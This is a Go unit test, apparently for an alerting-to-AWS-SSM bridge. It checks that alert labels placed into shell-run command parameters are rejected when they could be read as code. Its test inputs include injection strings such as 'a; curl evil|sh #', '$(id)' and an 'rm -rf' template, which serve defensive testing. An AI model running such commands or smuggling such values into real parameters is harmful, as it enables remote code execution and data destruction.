package amx

import (
	"strings"
	"testing"
)

// In a parameter that a shell runs as it stands a label is refused that could be
// code, wherever the template writes it; what the configuration says is not.
func TestNoLabelBecomesCodeInADocument(t *testing.T) {
	for _, template := range []string{
		`rm -rf "/srv/{{ .CommonLabels.x }}"; echo $HOME`,
		`{{ .CommonLabels.x }}`,
		`{{ range .Alerts }}{{ .Labels.x }}{{ end }}`,
		`{{ if true }}{{ with .CommonLabels.x }}{{ . }}{{ end }}{{ end }}`,
		`{{ define "t" }}{{ .CommonLabels.x }}{{ end }}{{ template "t" . }}`,
		`{{ $x := .CommonLabels.x }}{{ $x }}`,
		`{{ .CommonLabels.x | toUpper }}`,
		`{{ printf "%s" .CommonLabels.x }}`,
	} {
		for _, document := range []string{"AWS-RunShellScript", "AWS-RunPowerShellScript", "arn:aws:ssm:eu-central-1::document/aws-runshellscript"} {
			c := &Command{Name: "fix", Document: document, Parameters: map[string][]string{"commands": {template}}}
			with := func(x string) (string, error) {
				labels := KV{"x": x}
				p, err := c.ExpandParameters(Data{CommonLabels: labels, Alerts: Alerts{{Labels: labels}}})
				if err != nil {
					return "", err
				}
				return p["commands"][0], nil
			}
			if got, err := with("web-1.example:9100"); err != nil || !strings.Contains(strings.ToLower(got), "web-1.example:9100") {
				t.Errorf("%s %s: %q, %v", document, template, got, err)
			}
			for _, x := range []string{"a; curl evil|sh #", "$(id)", "`id`", "a b", "a\nb", "'", `"`, `\`, "é", "{{ssm:x}}", "~", "*", "&", "<", "\x00"} {
				if got, err := with(x); err == nil || !strings.Contains(err.Error(), "may be code to the shell of this document") {
					t.Errorf("%s %s: %q became %q, %v", document, template, x, got, err)
				}
			}
		}
	}
	c := &Command{Name: "fix", Document: "Acme-Runbook", Parameters: map[string][]string{"Alert": {"{{ toJson . }}"}}}
	if _, err := c.ExpandParameters(Data{CommonLabels: KV{"x": "a; b"}}); err != nil {
		t.Errorf("of another document nothing is known: %v", err)
	}
}
